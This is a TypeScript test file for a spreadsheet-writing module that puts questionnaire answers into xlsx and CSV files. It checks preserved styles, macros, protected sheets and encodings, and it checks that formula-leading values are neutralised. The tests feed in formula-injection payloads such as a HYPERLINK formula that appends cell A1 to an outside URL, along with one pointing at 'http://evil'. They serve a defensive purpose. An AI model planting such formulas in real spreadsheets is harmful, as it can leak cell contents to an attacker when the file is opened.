import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { strFromU8, strToU8, unzipSync } from 'fflate';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { dataExport, neutralise } from '../../../functions/common/formats/data-export';
import { parseCsv, readSpreadsheet } from '../../../functions/common/formats/spreadsheet';
import type { CellWrite } from '../../../functions/common/formats/types';
import {
  columnLetters,
  lockedWrites,
  UNREPRESENTABLE_REFUSED,
  unrepresentableWrites,
  writeSpreadsheet,
} from '../../../functions/common/formats/write-spreadsheet';
import { macroQuestionnaire } from '../../../scripts/fixtures/hostile-zips';
import { buildQuestionnaireXlsx } from '../../../scripts/fixtures/workbooks';
import { DATA_EXPORT_COLUMNS } from '../../../shared/schemas/source';

describe('writeSpreadsheet (xlsx)', () => {
  it('clears a cell given an empty value (a mark moved to another column), keeping its style', async () => {
    // Prepare
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Marks');
    sheet.getRow(1).values = ['Question', 'Yes', 'No'];
    sheet.getRow(2).values = ['Do you encrypt data at rest?', '', 'X'];
    sheet.getCell('C2').font = { bold: true };
    const original = new Uint8Array(await workbook.xlsx.writeBuffer());

    // Act
    const written = await writeSpreadsheet(original, 'xlsx', [
      { sheetIndex: 0, rowNumber: 2, columnNumber: 2, value: 'X' },
      { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: '' },
    ]);

    // Assess
    const book = XLSX.read(written, { type: 'array' });
    expect(book.Sheets.Marks.B2.v).toBe('X');
    expect(book.Sheets.Marks.C2?.v ?? '').toBe('');
    const xml = strFromU8(unzipSync(written)['xl/worksheets/sheet1.xml']);
    expect(/<c r="C2"[^>]*\/>|<c r="C2"[^>]*><\/c>/.test(xml)).toBe(true);
    expect(/<c r="C2"[^>]*s="\d+"/.test(xml)).toBe(true);
  });

  it('writes answers into the mapped cells of a copy and keeps everything else', async () => {
    // Prepare
    const built = await buildQuestionnaireXlsx({ questions: 30 });
    const [first, second, last] = [built.rows[0], built.rows[1], built.rows[29]];
    const writes: CellWrite[] = [
      {
        sheetIndex: 1,
        rowNumber: first.rowNumber,
        columnNumber: 4,
        value: 'Yes — AES-256 at rest.\nKeys in KMS.',
      },
      { sheetIndex: 1, rowNumber: first.rowNumber, columnNumber: 5, value: 'Yes' },
      { sheetIndex: 1, rowNumber: second.rowNumber, columnNumber: 4, value: '=not a formula' },
      { sheetIndex: 1, rowNumber: last.rowNumber, columnNumber: 7, value: 'beyond the used range' },
      { sheetIndex: 1, rowNumber: last.rowNumber + 3, columnNumber: 2, value: 'a new row' },
    ];

    // Act
    const written = await writeSpreadsheet(built.bytes, 'xlsx', writes);

    // Assess: read back with SheetJS, a different library from the writer.
    const book = XLSX.read(written, { type: 'array', cellStyles: true });
    expect(book.SheetNames).toEqual(['Instructions', 'Questionnaire']);
    const sheet = book.Sheets.Questionnaire;
    expect(sheet[`D${first.rowNumber}`].v).toBe('Yes — AES-256 at rest.\nKeys in KMS.');
    expect(sheet[`E${first.rowNumber}`].v).toBe('Yes');
    expect(sheet[`D${second.rowNumber}`].v).toBe('=not a formula');
    expect(sheet[`D${second.rowNumber}`].f).toBeUndefined();
    expect(sheet[`G${last.rowNumber}`].v).toBe('beyond the used range');
    expect(sheet[`B${last.rowNumber + 3}`].v).toBe('a new row');
    expect(sheet[`C${first.rowNumber}`].v).toBe(first.question);
    expect(sheet['!merges']?.length).toBe(built.sectionRows.length + 1);
    expect(book.Sheets.Instructions.A3.v).toMatch(/^Please answer every question/);
    // Parts other than the written sheet keep their bytes: the cover sheet, comments, drop-downs; the
    // styles only gain the wrapping copy the multi-line answer needs, after every existing style.
    const before = unzipSync(built.bytes);
    const after = unzipSync(written);
    for (const name of Object.keys(before)) {
      if (name === 'xl/worksheets/sheet2.xml' || name === 'xl/styles.xml') continue;
      expect(after[name], name).toEqual(before[name]);
    }
    const stylesBefore = new TextDecoder().decode(before['xl/styles.xml']);
    const stylesAfter = new TextDecoder().decode(after['xl/styles.xml']);
    const xfs = (xml: string) => /<cellXfs[^>]*>([\s\S]*)<\/cellXfs>/.exec(xml)?.[1] ?? '';
    expect(xfs(stylesAfter).startsWith(xfs(stylesBefore).trim())).toBe(true);
    const sheetXml = new TextDecoder().decode(after['xl/worksheets/sheet2.xml']);
    expect(sheetXml).toContain('<dataValidations');
    expect(sheetXml).toContain('<pane');
    // And our own reader sees the answers too.
    const reread = await readSpreadsheet(written, 'xlsx');
    expect(reread.sheets[1].content.rows[first.rowNumber - 1].cells[3]).toBe(
      'Yes — AES-256 at rest.\nKeys in KMS.',
    );
  });

  it("sets a multi-line answer to wrap and keeps the rest of its cell's formatting", async () => {
    // Prepare: an answer column styled by the customer (font, fill, border, text format, top
    // alignment), an unstyled cell, and a cell that already wraps.
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Questions');
    sheet.getCell('A1').value = 'Question';
    sheet.getCell('A1').font = { bold: true };
    const styled = sheet.getCell('B2');
    styled.font = { italic: true, color: { argb: 'FF1F4E79' }, name: 'Arial', size: 11 };
    styled.fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFF2CC' } };
    styled.border = { bottom: { style: 'thin', color: { argb: 'FF999999' } } };
    styled.numFmt = '@';
    styled.alignment = { vertical: 'top', horizontal: 'left' };
    sheet.getCell('D2').alignment = { wrapText: true };
    const original = new Uint8Array(await book.xlsx.writeBuffer());
    const lines = 'Yes.\nAES-256 at rest.\nTLS 1.2+ in transit.';

    // Act
    const written = await writeSpreadsheet(original, 'xlsx', [
      { sheetIndex: 0, rowNumber: 2, columnNumber: 2, value: lines },
      { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: 'First line\nSecond line' },
      { sheetIndex: 0, rowNumber: 2, columnNumber: 4, value: 'One\nTwo' },
      { sheetIndex: 0, rowNumber: 3, columnNumber: 2, value: 'A single line' },
    ]);

    // Assess: read back with exceljs.
    const reread = new ExcelJS.Workbook();
    await reread.xlsx.load(written as never);
    const out = reread.getWorksheet('Questions');
    const b2 = out?.getCell('B2');
    expect(b2?.value).toBe(lines);
    expect(b2?.alignment).toEqual({ vertical: 'top', horizontal: 'left', wrapText: true });
    expect(b2?.font).toEqual(styled.font);
    expect(b2?.fill).toEqual(styled.fill);
    expect(b2?.border).toEqual(styled.border);
    expect(b2?.numFmt).toBe('@');
    expect(out?.getCell('C2').alignment).toEqual({ wrapText: true });
    expect(out?.getCell('D2').alignment).toEqual({ wrapText: true });
    expect(out?.getCell('B3').alignment?.wrapText).toBeFalsy();
    // Cells not written keep their own style.
    expect(out?.getCell('A1').font).toMatchObject({ bold: true });
    expect(out?.getCell('A1').alignment?.wrapText).toBeFalsy();
  });

  it('writes 2,000 answers quickly', async () => {
    const built = await buildQuestionnaireXlsx({ questions: 2000 });
    const writes = built.rows.map((r) => ({
      sheetIndex: 1,
      rowNumber: r.rowNumber,
      columnNumber: 4,
      value: `Answer ${r.reference}`,
    }));
    const started = performance.now();
    const written = await writeSpreadsheet(built.bytes, 'xlsx', writes);
    console.log(`2,000 answers written back in ${Math.round(performance.now() - started)} ms`);
    const sheet = XLSX.read(written, { type: 'array' }).Sheets.Questionnaire;
    expect(built.rows.every((r) => sheet[`D${r.rowNumber}`]?.v === `Answer ${r.reference}`)).toBe(true);
  }, 60_000);

  it('names columns as Excel does', () => {
    expect([1, 26, 27, 52, 53, 702, 703].map(columnLetters)).toEqual([
      'A',
      'Z',
      'AA',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
    ]);
  });
});

describe('writeSpreadsheet (macro workbooks and protected sheets)', () => {
  // Tab 2 "Questions" is xl/worksheets/sheet1.xml; B2 and B4 unlocked, B3 locked, B5 absent (locked).
  const answers: CellWrite[] = [2, 3, 4, 5].map((rowNumber) => ({
    sheetIndex: 1,
    rowNumber,
    columnNumber: 2,
    value: `Answer ${rowNumber}`,
  }));

  it('keeps the VBA project byte for byte and writes into the tab the answers belong to', async () => {
    // Prepare
    const { bytes, vbaProject } = macroQuestionnaire({ protectedSheet: false });

    // Act
    const written = await writeSpreadsheet(bytes, 'xlsx', answers);

    // Assess
    const after = unzipSync(written);
    expect(after['xl/vbaProject.bin']).toEqual(vbaProject);
    const before = unzipSync(bytes);
    for (const name of Object.keys(before)) {
      if (name === 'xl/worksheets/sheet1.xml') continue;
      expect(after[name], name).toEqual(before[name]);
    }
    const book = XLSX.read(written, { type: 'array' });
    expect(book.SheetNames).toEqual(['Instructions', 'Questions']);
    expect([2, 3, 4, 5].map((row) => book.Sheets.Questions[`B${row}`]?.v)).toEqual([
      'Answer 2',
      'Answer 3',
      'Answer 4',
      'Answer 5',
    ]);
    expect(book.Sheets.Instructions.B2).toBeUndefined();
  });

  it('writes only the unlocked cells of a protected sheet, which stays protected', async () => {
    // Prepare
    const { bytes } = macroQuestionnaire();

    // Act
    const locked = await lockedWrites(bytes, 'xlsx', answers);
    const written = await writeSpreadsheet(bytes, 'xlsx', answers);

    // Assess
    expect(locked.map((w) => w.rowNumber)).toEqual([3, 5]);
    const sheet = strFromU8(unzipSync(written)['xl/worksheets/sheet1.xml']);
    expect(sheet).toContain('<sheetProtection sheet="1" objects="1" scenarios="1"/>');
    const book = XLSX.read(written, { type: 'array' });
    expect([2, 3, 4, 5].map((row) => book.Sheets.Questions[`B${row}`]?.v)).toEqual([
      'Answer 2',
      undefined,
      'Answer 4',
      undefined,
    ]);
    expect(await lockedWrites(macroQuestionnaire({ protectedSheet: false }).bytes, 'xlsx', answers)).toEqual(
      [],
    );
  });

  it('writes text that looks like an OOXML escape, or holds a control character, exactly as given', async () => {
    // Prepare
    const { bytes } = macroQuestionnaire({ protectedSheet: false });
    const value = 'See policy_x000D_ref and\u0007bell';

    // Act
    const written = await writeSpreadsheet(bytes, 'xlsx', [{ ...answers[0], value }]);

    // Assess
    const sheet = strFromU8(unzipSync(written)['xl/worksheets/sheet1.xml']);
    expect(sheet).toContain('See policy_x005F_x000D_ref and_x0007_bell');
    // Read back as Excel reads an inline string: escapes decoded (by SheetJS, and by our own reader).
    expect(XLSX.read(written, { type: 'array' }).Sheets.Questions.B2.v).toBe(value);
    const { sheets } = await readSpreadsheet(written, 'xlsx');
    expect(sheets[1].content.rows[1].cells[1]).toBe(value);
  });
});

describe('writeSpreadsheet (csv)', () => {
  it('fills the answer column in the file’s own encoding, delimiter and line endings', async () => {
    const text = 'Réf;Question;Réponse\r\n1;Chiffrez-vous les données ?;\r\n2;"Deux\r\nlignes";\r\n';
    const original = new Uint8Array(iconv.encode(text, 'windows-1252'));
    const written = await writeSpreadsheet(original, 'csv', [
      { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: 'Oui; “AES”' },
      { sheetIndex: 0, rowNumber: 3, columnNumber: 3, value: 'Non' },
    ]);
    const decoded = iconv.decode(Buffer.from(written), 'windows-1252');
    expect(decoded).toBe(
      'Réf;Question;Réponse\r\n1;Chiffrez-vous les données ?;"Oui; “AES”"\r\n2;"Deux\r\nlignes";Non\r\n',
    );
    expect(parseCsv(written).encoding).toBe('windows-1252');
  });

  it('lists the characters a Windows-1252 file cannot hold, refuses to replace them, and writes UTF-8 when asked', async () => {
    // Prepare
    const text = 'Réf;Question;Réponse\r\n1;Chiffrez-vous les données ?;\r\n2;Journalisez-vous ?;\r\n';
    const original = new Uint8Array(iconv.encode(text, 'windows-1252'));
    const writes: CellWrite[] = [
      { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: 'Oui — AES ✓ 日本 ✓' },
      { sheetIndex: 0, rowNumber: 3, columnNumber: 3, value: 'Oui, “toujours” 😀' },
    ];

    // Act
    const listed = unrepresentableWrites(original, 'csv', writes);
    const refused = writeSpreadsheet(original, 'csv', writes);
    const utf8 = await writeSpreadsheet(original, 'csv', writes, { encoding: 'utf-8' });

    // Assess
    expect(listed.map((w) => [w.write.rowNumber, w.characters])).toEqual([
      [2, ['✓', '日', '本']],
      [3, ['😀']],
    ]);
    await expect(refused).rejects.toThrow(UNREPRESENTABLE_REFUSED);
    expect([...utf8.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(parseCsv(utf8).rows).toEqual([
      ['Réf', 'Question', 'Réponse'],
      ['1', 'Chiffrez-vous les données ?', 'Oui — AES ✓ 日本 ✓'],
      ['2', 'Journalisez-vous ?', 'Oui, “toujours” 😀'],
    ]);
    expect(unrepresentableWrites(strToU8(text), 'csv', writes)).toEqual([]);
  });

  it("neutralises the answers it writes that a spreadsheet would run, and leaves the customer's own cells", async () => {
    // Prepare: the customer's own sheet has a formula-looking cell of its own.
    const original = strToU8('Ref,Question,Answer\r\n=1+1,Do you log access?,\r\n2,Do you encrypt?,\r\n');
    // Act
    const written = await writeSpreadsheet(original, 'csv', [
      { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: '=HYPERLINK("http://x/?"&A1,"Click")' },
      { sheetIndex: 0, rowNumber: 3, columnNumber: 3, value: '+61 2 5550 1234 or @security' },
    ]);
    // Assess
    expect(parseCsv(written).rows).toEqual([
      ['Ref', 'Question', 'Answer'],
      ['=1+1', 'Do you log access?', `'=HYPERLINK("http://x/?"&A1,"Click")`],
      ['2', 'Do you encrypt?', "'+61 2 5550 1234 or @security"],
    ]);
  });

  it('keeps a file that quotes every field quoting every field, and every other row byte for byte', async () => {
    // Prepare: every field quoted, a ragged row, a trailing space and no line ending at the end.
    const text =
      '"Ref","Question","Answer"\n"1","Do you encrypt data at rest?",""\n"2","Do you log access?"\n"3","Notes ","x"';
    // Act
    const written = strFromU8(
      await writeSpreadsheet(strToU8(text), 'csv', [
        { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: 'Yes, AES-256' },
        { sheetIndex: 0, rowNumber: 3, columnNumber: 3, value: 'Yes' },
      ]),
    );
    // Assess
    expect(written).toBe(
      '"Ref","Question","Answer"\n"1","Do you encrypt data at rest?","Yes, AES-256"\n"2","Do you log access?","Yes"\n"3","Notes ","x"',
    );
  });

  it('keeps a file that quotes only where needed so, and leaves the rows it does not write untouched', async () => {
    const text =
      'Ref,Question,Answer,Notes\r\n1,Do you use MFA?,,"kept, as is"\r\n2,Unchanged row,  spaced  ,\r\n';
    const written = strFromU8(
      await writeSpreadsheet(strToU8(text), 'csv', [
        { sheetIndex: 0, rowNumber: 2, columnNumber: 3, value: 'Yes, for all staff' },
      ]),
    );
    expect(written).toBe(
      'Ref,Question,Answer,Notes\r\n1,Do you use MFA?,"Yes, for all staff","kept, as is"\r\n2,Unchanged row,  spaced  ,\r\n',
    );
  });

  it('changes no line but the written rows, whatever the grid (property)', async () => {
    const cell = fc.string({ maxLength: 10 });
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 2, maxLength: 8 }),
        fc.boolean(),
        fc.nat(),
        fc.string({ maxLength: 10 }),
        async (grid, quotes, pick, value) => {
          const rows = [['Ref', 'Question', 'Answer'], ...grid];
          const text = `${Papa.unparse(rows, { quotes, newline: '\r\n' })}\r\n`;
          const target = 2 + (pick % grid.length);
          const written = strFromU8(
            await writeSpreadsheet(strToU8(text), 'csv', [
              { sheetIndex: 0, rowNumber: target, columnNumber: 3, value },
            ]),
          );
          const back = parseCsv(strToU8(written));
          const before = parseCsv(strToU8(text));
          expect(back.lines.filter((_, i) => i !== target - 1)).toEqual(
            before.lines.filter((_, i) => i !== target - 1),
          );
          expect(back.rows[target - 1][2]).toBe(neutralise(value));
        },
      ),
      { numRuns: 80 },
    );
  });

  it('keeps any grid through write and read (property)', async () => {
    const cell = fc.string({ maxLength: 12 }).map((s) => s.replace(/\r/g, ''));
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 2, maxLength: 6 }),
        fc.constantFrom(',', ';', '\t'),
        async (grid, delimiter) => {
          const rows = [['Ref', 'Question', 'Answer'], ...grid.map((r) => [r[0], `Q ${r[1]}`, ''])];
          const original = strToU8(`\uFEFF${Papa.unparse(rows, { delimiter, newline: '\r\n' })}\r\n`);
          const writes = grid.map((r, i) => ({
            sheetIndex: 0,
            rowNumber: i + 2,
            columnNumber: 3,
            value: r[2],
          }));
          const back = parseCsv(await writeSpreadsheet(original, 'csv', writes)).rows;
          expect(back).toEqual(rows.map((r, i) => (i === 0 ? r : [r[0], r[1], neutralise(grid[i - 1][2])])));
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('dataExport', () => {
  const rows = [
    ['1.1', 'Access', 'Do you use MFA?', 'Yes', 'Compliant', 'Complete', 'Demo User', '', 'q.xlsx'],
    [
      '1.2',
      'Access',
      'Formula?',
      '=HYPERLINK("http://evil","x")',
      '',
      'In Progress',
      '',
      '@SUM(1)',
      'q.xlsx',
    ],
  ];

  it('writes a CSV with a BOM, the header and neutralised formulas', async () => {
    const bytes = await dataExport(rows, 'csv');
    const parsed = parseCsv(bytes);
    expect(parsed.encoding).toBe('utf-8-bom');
    expect(parsed.rows[0]).toEqual([...DATA_EXPORT_COLUMNS]);
    expect(parsed.rows[2][3]).toBe(`'=HYPERLINK("http://evil","x")`);
    expect(parsed.rows[2][7]).toBe(`'@SUM(1)`);
  });

  it('writes an XLSX whose cells are strings, never formulas', async () => {
    const book = XLSX.read(await dataExport(rows, 'xlsx'), { type: 'array' });
    const sheet = book.Sheets.Questions;
    expect(sheet.A1.v).toBe('Reference Number');
    expect(sheet.D3.v).toBe('=HYPERLINK("http://evil","x")');
    expect(sheet.D3.f).toBeUndefined();
  });

  it('neutralises exactly the formula-leading values', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const out = neutralise(value);
        expect(out === value).toBe(!/^[=+\-@\t\r]/.test(value));
      }),
    );
  });
});
